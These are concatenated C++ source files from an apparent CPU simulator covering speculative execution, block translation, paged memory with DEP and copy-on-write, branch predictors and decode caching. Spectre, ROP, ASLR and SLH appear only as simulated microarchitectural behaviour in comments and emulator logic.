  std::uint64_t pc = spec_pc;

  for (std::uint64_t executed = 0; executed < budget; ++executed) {
    // Wrong-path fetches go through the same decode cache as architectural
    // ones: they see the same DEP faults and the same decoded bytes.
    DecodedSlot wlocal;
    const DecodedSlot* fetched;
    if (config_.decode_cache && (pc % isa::kInstructionSize) == 0) {
      fetched = dcache_.lookup(pc);
      if (fetched == nullptr) break;  // transient fault: squash silently
    } else {
      if (!memory_.check(pc, isa::kInstructionSize, AccessKind::kExecute)) {
        break;  // transient fault: squash silently
      }
      wlocal = decode_slot(memory_, pc);
      fetched = &wlocal;
    }
    // Wrong-path fetches still warm the instruction cache.
    const auto fetch = hierarchy_.access_fetch(pc);
    pmu_.add(Event::kL1iAccesses);
    if (!fetch.l1i_hit) pmu_.add(Event::kL1iMisses);

    if (fetched->state == DecodedSlot::kIllegal) break;
    const DecodedSlot slot = *fetched;  // copy: the loop re-enters the cache
    const Instruction& instr = slot.instr;
    pmu_.add(Event::kSpecInstructions);

    switch (slot.cls) {
      case OpClass::kNop:
        pc += isa::kInstructionSize;
        break;
      case OpClass::kAlu:
        spec_regs[instr.rd] =
            alu_result(instr, slot.reads_rs1 ? spec_regs[instr.rs1] : 0,
                       slot.reads_rs2 ? spec_regs[instr.rs2] : 0);
        pc += isa::kInstructionSize;
        break;
      case OpClass::kLoad: {
        const std::uint64_t ea =
            spec_regs[instr.rs1] +
            static_cast<std::uint64_t>(static_cast<std::int64_t>(instr.imm));
        const std::uint64_t width = instr.op == Opcode::kLoad ? 8 : 1;
        if (!memory_.check(ea, width, AccessKind::kRead)) {
          // Fault suppressed; the episode squashes early.
          executed = budget;
          break;
        }
        // THE Spectre side effect: the wrong-path load fills cache lines
        // that survive the squash.
        const AccessOutcome outcome = hierarchy_.access_data(ea);
        attribute_data_access(outcome);
        pmu_.add(Event::kSpecLoads);
        if (config_.slh) {
          // SLH: the *first* wrong-path load still fills its line (as in
          // LLVM SLH), but the value it forwards is poisoned to zero, so a
          // dependent secret-indexed access cannot encode the secret.
          spec_regs[instr.rd] = 0;
          ++mstats_.slh_masked_loads;
        } else {
          spec_regs[instr.rd] =
              instr.op == Opcode::kLoad
                  ? view.read_u64(ea)
                  : static_cast<std::uint64_t>(view.read_u8(ea));
        }
        pc += isa::kInstructionSize;
        break;
      }
      case OpClass::kStore: {
        const std::uint64_t ea =
            spec_regs[instr.rs1] +
            static_cast<std::uint64_t>(static_cast<std::int64_t>(instr.imm));
        const std::uint64_t width = instr.op == Opcode::kStore ? 8 : 1;
        if (!memory_.check(ea, width, AccessKind::kWrite)) {
          executed = budget;
          break;
        }
        // Speculative stores stay in the store buffer: no cache effect.
        if (instr.op == Opcode::kStore) {
          view.write_u64(ea, spec_regs[instr.rs2]);
        } else {
          view.write_u8(ea, static_cast<std::uint8_t>(spec_regs[instr.rs2]));
        }
        pc += isa::kInstructionSize;
        break;
      }
      case OpClass::kCondBranch: {
        if (config_.honor_fence_hints && slot.fence_after) {
          // A fence-hinted branch serialises even on the wrong path.
          executed = budget;
          break;
        }
        // Nested speculation: follow the predictor without updating it.
        const bool taken = predictor_.pht().predict_taken(pc);
        pc = taken ? static_cast<std::uint32_t>(instr.imm)
                   : pc + isa::kInstructionSize;
        break;
      }
      case OpClass::kJump:
        pc = static_cast<std::uint32_t>(instr.imm);
        break;
      case OpClass::kIndirectJump:
        pc = spec_regs[instr.rs1];
        break;
      case OpClass::kCall:
      case OpClass::kIndirectCall: {
        const std::uint64_t ret_addr = pc + isa::kInstructionSize;
        const std::uint64_t new_sp = spec_regs[isa::kStackPointer] - 8;
        if (!memory_.check(new_sp, 8, AccessKind::kWrite)) {
          executed = budget;
          break;
        }
        view.write_u64(new_sp, ret_addr);
        spec_regs[isa::kStackPointer] = new_sp;
        pc = instr.op == Opcode::kCall ? static_cast<std::uint32_t>(instr.imm)
                                       : spec_regs[instr.rs1];
        break;
      }
      case OpClass::kRet: {
        const std::uint64_t cur_sp = spec_regs[isa::kStackPointer];
        if (!memory_.check(cur_sp, 8, AccessKind::kRead)) {
          executed = budget;
          break;
        }
        pc = view.read_u64(cur_sp);
        spec_regs[isa::kStackPointer] = cur_sp + 8;
        break;
      }
      case OpClass::kPush: {
        const std::uint64_t new_sp = spec_regs[isa::kStackPointer] - 8;
        if (!memory_.check(new_sp, 8, AccessKind::kWrite)) {
          executed = budget;
          break;
        }
        view.write_u64(new_sp, spec_regs[instr.rs1]);
        spec_regs[isa::kStackPointer] = new_sp;
        pc += isa::kInstructionSize;
        break;
      }
      case OpClass::kPop: {
        const std::uint64_t cur_sp = spec_regs[isa::kStackPointer];
        if (!memory_.check(cur_sp, 8, AccessKind::kRead)) {
          executed = budget;
          break;
        }
        spec_regs[instr.rd] = view.read_u64(cur_sp);
        spec_regs[isa::kStackPointer] = cur_sp + 8;
        pc += isa::kInstructionSize;
        break;
      }
      case OpClass::kRdCycle:
        spec_regs[instr.rd] = cycle_;
        pc += isa::kInstructionSize;
        break;
      case OpClass::kFlush:
        // clflush is ordered; it does not execute on the wrong path.
        pc += isa::kInstructionSize;
        break;
      case OpClass::kFence:
      case OpClass::kSyscall:
      case OpClass::kHalt:
      default:
        // Serialising instructions stop speculation.
        executed = budget;
        break;
    }
  }
  // Episode ends: spec_regs and the store buffer are discarded. Cache and
  // predictor-adjacent PMU effects remain — that is the covert channel.
  if constexpr (obs::kEnabled) {
    obs::trace_instant(
        "cpu.spec_squash", cycle_,
        static_cast<double>(pmu_.count(Event::kSpecInstructions) -
                            spec_before));
  }
}

}  // namespace crs::sim
