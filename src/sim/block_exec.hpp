// Threaded-code block execution engine.
//
// `BlockExecutor::run` is the block-engine twin of the interpreter's
// `Cpu::run_until_cycle` loop: it acquires translated superblocks from the
// per-CPU `BlockCache` and executes their straight-line bodies with a
// computed-goto dispatch table (dense switch where the compiler lacks the
// extension), falling back to `Cpu::step()` for anything a block cannot
// hold — unaligned fetch targets (ROP pivots), DEP faults, serialising
// instructions (halt/mfence/clflush/syscall), and illegal bytes.
//
// The contract is bit-identity with the interpreter: every handler mirrors
// the corresponding `Cpu::exec_*` path operation for operation (scoreboard
// issue times, ROB-window stalls, PMU attribution, fault ordering, SLH
// latency, cycle accounting), control-flow tails call the interpreter's own
// exec_* helpers so speculation episodes and mitigation semantics are the
// same code, and in-block stores into the block's own code pages bail out
// immediately so self-modifying code sees its new bytes exactly as the
// per-step engine would. The differential fuzz oracle (src/fuzz) crosses
// the two engines on every corpus program to enforce this.
#pragma once

#include <cstdint>

#include "sim/cpu.hpp"

namespace crs::sim {

class BlockCache;
struct TranslatedBlock;

class BlockExecutor {
 public:
  /// Runs `cpu` until halt/fault, `cycle_target`, or `max_instructions`
  /// retired — same contract as the interpreter's run_until_cycle loop.
  /// Requires cpu.block_cache() != nullptr.
  static StopReason run(Cpu& cpu, std::uint64_t cycle_target,
                        std::uint64_t max_instructions);

 private:
  /// Executes `block` (body + optional control-flow tail) and then chains
  /// straight into successor blocks while their guards validate, keeping
  /// pc/cycle and the batched counters in registers across block
  /// boundaries. Returns — with cpu state fully synced — on faults,
  /// budget/cycle limits, a self-modifying store into the running block's
  /// own pages, or any pc the cache cannot serve (unaligned, DEP-denied,
  /// serialising/illegal entry), which the caller feeds to Cpu::step().
  static void exec_chain(Cpu& cpu, BlockCache& cache, TranslatedBlock* block,
                         std::uint64_t cycle_target, std::uint64_t budget);
};

}  // namespace crs::sim
