// Translated-superblock cache for the threaded-code execution engine.
//
// A block is a straight-line run of decoded instructions starting at an
// 8-byte-aligned pc: zero or more "body" ops (ALU, load/store, push/pop,
// nop, rdcycle) followed by at most one control-flow "tail" (branch, jump,
// call, return). Translation stops at serialising instructions (halt,
// mfence, clflush, syscall), at illegal bytes, after crossing one page
// boundary, and at a body-length cap — execution of those falls back to the
// interpreter's `Cpu::step()`.
//
// Coherence reuses the decode cache's page-version scheme wholesale: each
// block carries a guard list of (page, version) pairs for every page its
// bytes were decoded from, validated with an integer compare per guard on
// every acquire. Since `Memory` bumps a page's version on every write and
// permission change, all invalidation sources — SMC stores, execve
// overlays, mprotect, fence-pass rewrites, and snapshot restore (which
// bumps, never rolls back) — kill stale blocks with no new hooks. `clflush`
// of a code line additionally drops the page's blocks eagerly (including
// blocks that *straddle into* the page from a neighbour), mirroring
// `DecodeCache::invalidate`.
#pragma once

#include <cstdint>
#include <memory>
#include <utility>
#include <vector>

#include "isa/isa.hpp"
#include "sim/decode_cache.hpp"
#include "sim/memory.hpp"

namespace crs::sim {

/// One straight-line instruction in dispatch-ready threaded-code form: the
/// architectural fields plus the immediate pre-sign-extended and the result
/// latency (1 / mul / div) pre-selected, so the executor's handlers do no
/// per-op classification at all.
struct MicroOp {
  isa::Opcode op = isa::Opcode::kNop;
  std::uint8_t rd = 0;
  std::uint8_t rs1 = 0;
  std::uint8_t rs2 = 0;
  std::uint32_t latency = 1;
  std::int64_t imm = 0;
  /// Direct-threading slot: the executor's computed-goto handler address for
  /// `op`, filled lazily on the block's first execution (the label addresses
  /// are local to the dispatch function). nullptr until then and in the
  /// switch-dispatch build, which ignores it.
  const void* handler = nullptr;
};

struct BlockGuard {
  std::uint64_t page = 0;
  std::uint32_t version = 0;  ///< 0 never matches (Memory starts at 1)
};

struct TranslatedBlock {
  std::uint64_t entry_pc = 0;
  /// Inclusive page span of the block's code bytes; body stores landing in
  /// this span mean self-modifying code and force a mid-block bail-out.
  std::uint64_t first_page = 0;
  std::uint64_t last_page = 0;
  std::uint32_t guard_count = 0;
  BlockGuard guards[2];
  /// True once every body op's `handler` has been resolved by the executor;
  /// cleared on (re)translation since the body was rebuilt.
  bool dispatch_ready = false;
  bool has_tail = false;
  /// Control-flow terminator, executed through the interpreter's own
  /// exec_cond_branch/exec_call/... so speculation and mitigation semantics
  /// are shared verbatim. Valid iff has_tail.
  DecodedSlot tail{};
  std::vector<MicroOp> body;

  bool empty() const { return body.empty() && !has_tail; }
};

struct BlockCacheStats {
  std::uint64_t hits = 0;            ///< acquires served by a fresh block
  std::uint64_t translations = 0;    ///< first-time block builds
  std::uint64_t retranslations = 0;  ///< guard-mismatch rebuilds
  std::uint64_t invalidations = 0;   ///< clflush-driven page drops
  std::uint64_t smc_bailouts = 0;    ///< in-block stores into own code span
};

class BlockCache {
 public:
  /// Longest body per block. Also bounds how stale a block's tail can be:
  /// nothing inside a block writes memory without the SMC span check.
  static constexpr std::size_t kMaxBodyOps = 256;
  /// Blocks may cross at most one page boundary (two guards).
  static constexpr std::uint32_t kMaxBlockPages = 2;

  BlockCache(const Memory& memory, std::uint32_t mul_latency,
             std::uint32_t div_latency);

  /// Block starting at the 8-byte-aligned `pc`. Validates guards and
  /// retranslates in place when any guarded page's version moved. Returns
  /// nullptr iff the page does not grant execute permission or `pc` is out
  /// of range — the caller falls back to `Cpu::step()`, which raises the
  /// DEP fault. The returned block may be `empty()` (entry instruction is
  /// serialising or illegal); cached so repeat visits stay cheap.
  TranslatedBlock* acquire(std::uint64_t pc);

  /// Drops every block resident in the page containing `addr`, plus blocks
  /// that straddle into it from the previous page (clflush of a code line).
  void invalidate(std::uint64_t addr);

  const BlockCacheStats& stats() const { return stats_; }
  void note_smc_bailout() { ++stats_.smc_bailouts; }

 private:
  struct PageBlocks {
    /// One slot per 8-byte-aligned entry pc in the page, lazily filled.
    std::vector<std::unique_ptr<TranslatedBlock>> slots;
    /// Occupied slot indices, so invalidate need not walk all 512 slots.
    std::vector<std::uint16_t> resident;
    /// (page, slot) of blocks on *other* pages whose bytes extend into this
    /// one; invalidating this page must kill them too. Conservative: stale
    /// entries only ever drop a block early, never keep one alive.
    std::vector<std::pair<std::uint64_t, std::uint16_t>> incoming;
  };
  static constexpr std::size_t kSlotsPerPage =
      Memory::kPageSize / isa::kInstructionSize;

  /// (Re)builds `block` from the current memory image. False iff the entry
  /// page denies execute.
  bool translate_into(TranslatedBlock& block, std::uint64_t pc,
                      std::uint16_t slot);

  const Memory& memory_;
  std::uint32_t mul_latency_;
  std::uint32_t div_latency_;
  std::vector<std::unique_ptr<PageBlocks>> pages_;  // by page number, lazy
  BlockCacheStats stats_;
};

}  // namespace crs::sim
