// Byte-addressable simulated physical memory with per-page permissions.
//
// Page permissions model the defenses the paper's ROP chain must respect:
// Data Execution Prevention (stack/heap writable but not executable, code
// executable but not writable). The gadget scanner only scans executable
// pages; the CPU faults on any fetch from a non-executable page, so a naive
// "write shellcode to the stack" attack fails while the ROP chain succeeds.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

namespace crs::sim {

/// Page permission bitmask.
enum Perm : std::uint8_t {
  kPermNone = 0,
  kPermRead = 1,
  kPermWrite = 2,
  kPermExec = 4,
  kPermRW = kPermRead | kPermWrite,
  kPermRX = kPermRead | kPermExec,
};

enum class AccessKind { kRead, kWrite, kExecute };

class Memory {
 public:
  static constexpr std::uint64_t kPageSize = 4096;

  /// Size is rounded up to a whole number of pages. Pages start with no
  /// permissions; mapping regions is the loader's job.
  explicit Memory(std::uint64_t size_bytes);

  std::uint64_t size() const { return bytes_.size(); }
  std::uint64_t page_count() const { return perms_.size(); }

  /// Sets permissions for every page overlapping [addr, addr+len).
  void set_permissions(std::uint64_t addr, std::uint64_t len, Perm perm);

  /// Permissions of the page containing `addr` (kPermNone out of range).
  Perm permissions_at(std::uint64_t addr) const;

  /// True when every byte of [addr, addr+len) is in range and its page
  /// grants the given access.
  bool check(std::uint64_t addr, std::uint64_t len, AccessKind kind) const;

  // Raw accessors. Bounds are enforced (crs::Error on violation) but
  // permissions are NOT: the CPU checks permissions and models faults;
  // the loader and the test harness bypass them deliberately.
  std::uint8_t read_u8(std::uint64_t addr) const;
  std::uint64_t read_u64(std::uint64_t addr) const;
  void write_u8(std::uint64_t addr, std::uint8_t value);
  void write_u64(std::uint64_t addr, std::uint64_t value);

  void write_bytes(std::uint64_t addr, std::span<const std::uint8_t> data);
  std::vector<std::uint8_t> read_bytes(std::uint64_t addr,
                                       std::uint64_t len) const;

  /// Zero-copy view of [addr, addr+len); valid until the Memory is
  /// destroyed (the backing store never reallocates). Used on the
  /// instruction-fetch fast path.
  std::span<const std::uint8_t> read_span(std::uint64_t addr,
                                          std::uint64_t len) const;

  /// Read-only view of the raw backing store (used by the gadget scanner).
  std::span<const std::uint8_t> raw() const { return bytes_; }

  /// Monotonic per-page content version. Every write (write_u8/u64/bytes)
  /// and every permission change touching a page bumps its version, so
  /// consumers holding state derived from page contents (the decode cache)
  /// can detect staleness with one integer compare. Versions start at 1 so
  /// a consumer initialised to 0 always misses on first use.
  std::uint32_t page_version(std::uint64_t page_index) const {
    return page_index < versions_.size() ? versions_[page_index] : 0;
  }

 private:
  // Checkpoint/restore (sim/snapshot.cpp) reads and rewrites the page store
  // directly: restores bump versions rather than rolling them back.
  friend class SnapshotAccess;

  void bump_versions(std::uint64_t addr, std::uint64_t len) {
    const std::uint64_t first = addr / kPageSize;
    const std::uint64_t last = (addr + len - 1) / kPageSize;
    for (std::uint64_t p = first; p <= last; ++p) ++versions_[p];
  }

  std::vector<std::uint8_t> bytes_;
  std::vector<std::uint8_t> perms_;  // one Perm byte per page
  std::vector<std::uint32_t> versions_;  // one content version per page
};

}  // namespace crs::sim
