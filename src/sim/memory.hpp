// Byte-addressable simulated physical memory with per-page permissions.
//
// Page permissions model the defenses the paper's ROP chain must respect:
// Data Execution Prevention (stack/heap writable but not executable, code
// executable but not writable). The gadget scanner only scans executable
// pages; the CPU faults on any fetch from a non-executable page, so a naive
// "write shellcode to the stack" attack fails while the ROP chain succeeds.
//
// Backing modes (DESIGN.md §15). A Memory owns either
//  - a private flat store (the classic mode: one contiguous allocation,
//    zero-filled at construction), or
//  - a copy-on-write view of a refcounted frozen MemoryImage: every page
//    starts as a read-only alias of the shared baseline frame and is
//    promoted to a private 4 KiB frame on its first write. A fork therefore
//    costs O(metadata) to create and O(pages actually dirtied) to run —
//    the replication engine behind population-scale campaign fan-out.
// Both modes sit behind one per-page frame table, so the hot accessors are
// mode-oblivious; the per-page content versions (the decode-cache / SMC
// coherence machinery) work unchanged because promotions happen exactly on
// the writes that bump them.
#pragma once

#include <array>
#include <cstdint>
#include <deque>
#include <memory>
#include <span>
#include <vector>

namespace crs::sim {

/// Page permission bitmask.
enum Perm : std::uint8_t {
  kPermNone = 0,
  kPermRead = 1,
  kPermWrite = 2,
  kPermExec = 4,
  kPermRW = kPermRead | kPermWrite,
  kPermRX = kPermRead | kPermExec,
};

enum class AccessKind { kRead, kWrite, kExecute };

class MemoryImage;

class Memory {
 public:
  static constexpr std::uint64_t kPageSize = 4096;

  /// Private mode. Size is rounded up to a whole number of pages. Pages
  /// start with no permissions; mapping regions is the loader's job.
  explicit Memory(std::uint64_t size_bytes);

  /// Copy-on-write fork: every page aliases the image's frame until first
  /// write. The image is refcounted and immutable, so any number of forks
  /// (across threads) can share it concurrently.
  explicit Memory(std::shared_ptr<const MemoryImage> image);

  // The frame tables hold raw pointers into the backing stores. Moves are
  // safe (vector/deque moves transfer the heap buffers the pointers target)
  // but a copy would alias the source's frames — fork via freeze() instead.
  Memory(const Memory&) = delete;
  Memory& operator=(const Memory&) = delete;
  Memory(Memory&&) = default;
  Memory& operator=(Memory&&) = default;

  /// Freezes the current contents into an immutable, shareable image (the
  /// fork baseline). Pristine pages — version 1, i.e. never written or
  /// remapped — all alias one static zero page, so freezing a fresh 16 MiB
  /// machine stores no page data at all.
  std::shared_ptr<const MemoryImage> freeze() const;

  std::uint64_t size() const { return size_; }
  std::uint64_t page_count() const { return perms_.size(); }

  /// Sets permissions for every page overlapping [addr, addr+len).
  /// A zero-length span is a no-op (nothing overlaps it).
  void set_permissions(std::uint64_t addr, std::uint64_t len, Perm perm);

  /// Permissions of the page containing `addr` (kPermNone out of range).
  Perm permissions_at(std::uint64_t addr) const;

  /// True when every byte of [addr, addr+len) is in range and its page
  /// grants the given access.
  bool check(std::uint64_t addr, std::uint64_t len, AccessKind kind) const;

  // Raw accessors. Bounds are enforced (crs::Error on violation) but
  // permissions are NOT: the CPU checks permissions and models faults;
  // the loader and the test harness bypass them deliberately.
  std::uint8_t read_u8(std::uint64_t addr) const;
  std::uint64_t read_u64(std::uint64_t addr) const;
  void write_u8(std::uint64_t addr, std::uint8_t value);
  void write_u64(std::uint64_t addr, std::uint64_t value);

  void write_bytes(std::uint64_t addr, std::span<const std::uint8_t> data);
  std::vector<std::uint8_t> read_bytes(std::uint64_t addr,
                                       std::uint64_t len) const;

  /// Zero-copy view of [addr, addr+len) when the bytes are physically
  /// contiguous (always within one page; across pages whenever the backing
  /// frames happen to be adjacent), else a copy into an internal scratch
  /// buffer. Valid until the next read_span call or any mutation of this
  /// Memory. Used on the instruction-fetch fast path, whose callers decode
  /// the span immediately.
  std::span<const std::uint8_t> read_span(std::uint64_t addr,
                                          std::uint64_t len) const;

  /// Monotonic per-page content version. Every write (write_u8/u64/bytes)
  /// and every permission change touching a page bumps its version, so
  /// consumers holding state derived from page contents (the decode cache)
  /// can detect staleness with one integer compare. Versions start at 1 so
  /// a consumer initialised to 0 always misses on first use. A fork starts
  /// from the image's version values (compared only for equality
  /// everywhere, so the inherited magnitudes are behaviour-neutral).
  std::uint32_t page_version(std::uint64_t page_index) const {
    return page_index < versions_.size() ? versions_[page_index] : 0;
  }

  /// True when this Memory is a copy-on-write fork of a shared image.
  bool is_cow() const { return base_ != nullptr; }

  /// Pages promoted to private frames so far (0 in private mode, where
  /// every page is private by construction but none is *promoted*).
  std::uint64_t promoted_pages() const { return promoted_pages_; }

  /// Bytes of page data this Memory owns privately (excludes the shared
  /// image and the per-page metadata tables): the whole store in private
  /// mode, promoted frames only in COW mode. The bench's per-session
  /// footprint metric.
  std::uint64_t resident_bytes() const {
    return bytes_.size() + promoted_pages_ * kPageSize;
  }

 private:
  // Checkpoint/restore (sim/snapshot.cpp) reads and rewrites the page store
  // directly: restores bump versions rather than rolling them back.
  friend class SnapshotAccess;

  void bump_versions(std::uint64_t addr, std::uint64_t len) {
    if (len == 0) return;  // addr + len - 1 would underflow at addr == 0
    const std::uint64_t first = addr / kPageSize;
    const std::uint64_t last = (addr + len - 1) / kPageSize;
    for (std::uint64_t p = first; p <= last; ++p) ++versions_[p];
  }

  /// COW promotion: copies the shared frame into a fresh private frame and
  /// repoints both table entries. Only reachable in COW mode (private-mode
  /// write_frames_ entries are never null).
  std::uint8_t* promote(std::uint64_t page);

  /// Writable frame for `page`, promoting on first COW write. Does NOT bump
  /// the version; callers bump exactly as the pre-COW store did.
  std::uint8_t* frame_for_write(std::uint64_t page) {
    std::uint8_t* f = write_frames_[page];
    return f != nullptr ? f : promote(page);
  }

  std::uint64_t size_ = 0;
  std::vector<std::uint8_t> bytes_;  // private-mode flat store (else empty)
  std::shared_ptr<const MemoryImage> base_;  // COW baseline (else null)
  // Promoted private frames; a deque never relocates existing elements, so
  // the frame-table pointers stay valid as promotions accumulate.
  std::deque<std::array<std::uint8_t, kPageSize>> private_frames_;
  std::uint64_t promoted_pages_ = 0;
  // Per-page frame tables — the one representation both modes share. A null
  // write_frames_ entry means "shared, promote on first write".
  std::vector<const std::uint8_t*> read_frames_;
  std::vector<std::uint8_t*> write_frames_;
  std::vector<std::uint8_t> perms_;      // one Perm byte per page
  std::vector<std::uint32_t> versions_;  // one content version per page
  // Scratch for read_span calls that cross non-adjacent frames.
  mutable std::vector<std::uint8_t> span_scratch_;
};

/// Immutable frozen copy of one Memory's full state, shared (refcounted)
/// between any number of concurrent forks. Sparse: pristine pages alias a
/// single static zero page instead of owning storage.
class MemoryImage {
 public:
  MemoryImage() = default;
  MemoryImage(const MemoryImage&) = delete;
  MemoryImage& operator=(const MemoryImage&) = delete;

  std::uint64_t size() const { return size_; }
  std::uint64_t page_count() const { return frames_.size(); }
  /// Pages that own storage (were non-pristine at freeze time).
  std::uint64_t stored_page_count() const { return storage_.size(); }

 private:
  friend class Memory;

  std::uint64_t size_ = 0;
  std::vector<const std::uint8_t*> frames_;  // per page; zero page or storage_
  std::deque<std::array<std::uint8_t, Memory::kPageSize>> storage_;
  std::vector<std::uint8_t> perms_;
  std::vector<std::uint32_t> versions_;
};

}  // namespace crs::sim
