#include "sim/branch_predictor.hpp"

#include "obs/metrics.hpp"
#include "support/error.hpp"

namespace crs::sim {

namespace {
bool is_pow2(std::uint64_t v) { return v != 0 && (v & (v - 1)) == 0; }
}  // namespace

PatternHistoryTable::PatternHistoryTable(std::uint32_t entries) {
  CRS_ENSURE(is_pow2(entries), "PHT entries must be a power of two");
  counters_.assign(entries, 1);  // weakly not-taken
}

std::uint64_t PatternHistoryTable::index(std::uint64_t pc) const {
  return (pc >> 3) & (counters_.size() - 1);
}

bool PatternHistoryTable::predict_taken(std::uint64_t pc) const {
  return counters_[index(pc)] >= 2;
}

void PatternHistoryTable::update(std::uint64_t pc, bool taken) {
  if constexpr (obs::kEnabled) ++updates_;
  std::uint8_t& c = counters_[index(pc)];
  if (taken) {
    if (c < 3) ++c;
  } else {
    if (c > 0) --c;
  }
}

std::uint8_t PatternHistoryTable::counter(std::uint64_t pc) const {
  return counters_[index(pc)];
}

std::uint64_t PatternHistoryTable::flush() {
  std::uint64_t trained = 0;
  for (std::uint8_t& c : counters_) {
    if (c != 1) {
      ++trained;
      c = 1;  // back to weakly not-taken
    }
  }
  return trained;
}

BranchTargetBuffer::BranchTargetBuffer(std::uint32_t entries) {
  CRS_ENSURE(is_pow2(entries), "BTB entries must be a power of two");
  entries_.resize(entries);
}

std::uint64_t BranchTargetBuffer::index(std::uint64_t pc) const {
  return (pc >> 3) & (entries_.size() - 1);
}

std::optional<std::uint64_t> BranchTargetBuffer::predict(
    std::uint64_t pc) const {
  const Entry& e = entries_[index(pc)];
  if (e.valid && e.pc == pc) return e.target;
  return std::nullopt;
}

void BranchTargetBuffer::update(std::uint64_t pc, std::uint64_t target) {
  if constexpr (obs::kEnabled) ++updates_;
  Entry& e = entries_[index(pc)];
  e.valid = true;
  e.pc = pc;
  e.target = target;
}

std::uint64_t BranchTargetBuffer::flush() {
  std::uint64_t trained = 0;
  for (Entry& e : entries_) {
    if (e.valid) {
      ++trained;
      e = Entry{};
    }
  }
  return trained;
}

ReturnStackBuffer::ReturnStackBuffer(std::uint32_t entries) {
  CRS_ENSURE(entries > 0, "RSB must have at least one entry");
  ring_.assign(entries, 0);
}

void ReturnStackBuffer::push(std::uint64_t return_address) {
  if constexpr (obs::kEnabled) {
    ++pushes_;
    if (depth_ == ring_.size()) ++wraps_;
  }
  ring_[top_] = return_address;
  top_ = (top_ + 1) % ring_.size();
  if (depth_ < ring_.size()) ++depth_;
}

std::optional<std::uint64_t> ReturnStackBuffer::pop() {
  if (depth_ == 0) {
    if constexpr (obs::kEnabled) ++underflows_;
    return std::nullopt;
  }
  if constexpr (obs::kEnabled) ++pops_;
  top_ = (top_ + ring_.size() - 1) % ring_.size();
  --depth_;
  return ring_[top_];
}

void ReturnStackBuffer::clear() {
  top_ = 0;
  depth_ = 0;
}

BranchPredictor::BranchPredictor(const PredictorConfig& config)
    : pht_(config.pht_entries),
      btb_(config.btb_entries),
      rsb_(config.rsb_entries) {}

std::uint64_t BranchPredictor::flush_all() {
  const std::uint64_t rsb_depth = rsb_.depth();
  rsb_.clear();
  return pht_.flush() + btb_.flush() + rsb_depth;
}

void BranchPredictor::publish_metrics(const std::string& prefix) const {
  if constexpr (!obs::kEnabled) return;
  auto& reg = obs::MetricsRegistry::instance();
  reg.counter(prefix + ".pht.updates").add(pht_.updates());
  reg.counter(prefix + ".btb.updates").add(btb_.updates());
  reg.counter(prefix + ".rsb.pushes").add(rsb_.pushes());
  reg.counter(prefix + ".rsb.pops").add(rsb_.pops());
  reg.counter(prefix + ".rsb.underflows").add(rsb_.underflows());
  reg.counter(prefix + ".rsb.wraps").add(rsb_.wraps());
}

}  // namespace crs::sim
