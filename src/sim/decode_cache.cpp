#include "sim/decode_cache.hpp"

namespace crs::sim {

DecodedSlot decode_slot(const Memory& memory, std::uint64_t pc) {
  DecodedSlot slot;
  const auto decoded = isa::decode(memory.read_span(pc, isa::kInstructionSize));
  if (decoded.has_value()) {
    slot.instr = *decoded;
    slot.cls = isa::op_class(decoded->op);
    slot.reads_rs1 = isa::reads_rs1(decoded->op);
    slot.reads_rs2 = isa::reads_rs2(decoded->op);
    slot.fence_after =
        slot.cls == isa::OpClass::kCondBranch && decoded->rd != 0;
    slot.state = DecodedSlot::kValid;
  } else {
    slot.state = DecodedSlot::kIllegal;
  }
  return slot;
}

const DecodedSlot* DecodeCache::lookup_slow(std::uint64_t pc) {
  const std::uint64_t page_index = pc / Memory::kPageSize;
  if (page_index >= memory_.page_count()) return nullptr;  // out of range
  if (pages_.size() <= page_index) pages_.resize(memory_.page_count());

  Page* page = pages_[page_index].get();
  if (page == nullptr) {
    pages_[page_index] = std::make_unique<Page>();
    page = pages_[page_index].get();
    page->slots.resize(kSlotsPerPage);
  }

  const std::uint32_t version = memory_.page_version(page_index);
  if (page->version != version) {
    // Contents or permissions moved under us: drop every decoded slot and
    // re-sample the execute bit. Slots refill lazily as they are fetched.
    for (auto& slot : page->slots) slot.state = DecodedSlot::kEmpty;
    page->exec =
        (memory_.permissions_at(pc) & static_cast<std::uint8_t>(kPermExec)) !=
        0;
    page->version = version;
    ++stats_.page_refreshes;
  }
  if (!page->exec) return nullptr;  // DEP: caller raises kFetchPermission

  DecodedSlot& slot =
      page->slots[(pc & (Memory::kPageSize - 1)) / isa::kInstructionSize];
  if (slot.state == DecodedSlot::kEmpty) {
    slot = decode_slot(memory_, pc);
    ++stats_.slot_decodes;
  } else {
    ++stats_.hits;
  }
  return &slot;
}

void DecodeCache::invalidate(std::uint64_t addr) {
  const std::uint64_t page_index = addr / Memory::kPageSize;
  if (page_index >= pages_.size()) return;
  Page* page = pages_[page_index].get();
  if (page == nullptr || page->version == 0) return;
  // Force a refresh on the next lookup; version 0 never matches Memory's.
  page->version = 0;
  ++stats_.explicit_invalidations;
}

}  // namespace crs::sim
