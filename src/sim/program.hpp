// Linked program image: what the assembler produces and the kernel loads.
//
// A Program is position-linked at `link_base` but carries relocation records
// for every absolute address it embeds (branch/call targets, address
// immediates, `.word label` data), so the loader can rebase it — this is
// what makes the ASLR defense model real: under ASLR the whole image shifts
// and a ROP payload built against link-time addresses faults.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "sim/memory.hpp"

namespace crs::sim {

struct Segment {
  std::string name;               ///< ".text", ".data", ".lib", ...
  std::uint64_t addr = 0;         ///< link-time start address
  std::vector<std::uint8_t> bytes;
  Perm perm = kPermRead;
};

/// Where inside a segment an absolute address is embedded.
enum class RelocKind : std::uint8_t {
  kImm32,   ///< 32-bit immediate field of an instruction (offset points at it)
  kWord64,  ///< 64-bit data word
};

struct Relocation {
  std::size_t segment = 0;  ///< index into Program::segments
  std::uint64_t offset = 0; ///< byte offset of the field inside the segment
  RelocKind kind = RelocKind::kImm32;
};

struct Program {
  std::string name;
  std::uint64_t link_base = 0;
  std::uint64_t entry = 0;  ///< link-time entry address
  std::vector<Segment> segments;
  std::vector<Relocation> relocations;
  /// Label → link-time address (functions, data objects, gadget anchors).
  std::map<std::string, std::uint64_t> symbols;

  /// Link-time address of `label`; throws crs::Error when missing.
  std::uint64_t symbol(const std::string& label) const;

  /// Total image size in bytes (sum of segments).
  std::uint64_t image_size() const;
};

}  // namespace crs::sim
