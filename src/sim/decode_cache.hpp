// Pre-decoded instruction cache.
//
// Decoding is the simulator's hottest path: `Cpu::step()` used to call
// `memory_.read_span` + `isa::decode` for every architectural and wrong-path
// instruction. This cache decodes each 8-byte slot of a page once and serves
// dispatch-ready `DecodedSlot`s by index afterwards.
//
// Coherence is by page version: `Memory` bumps a per-page counter on every
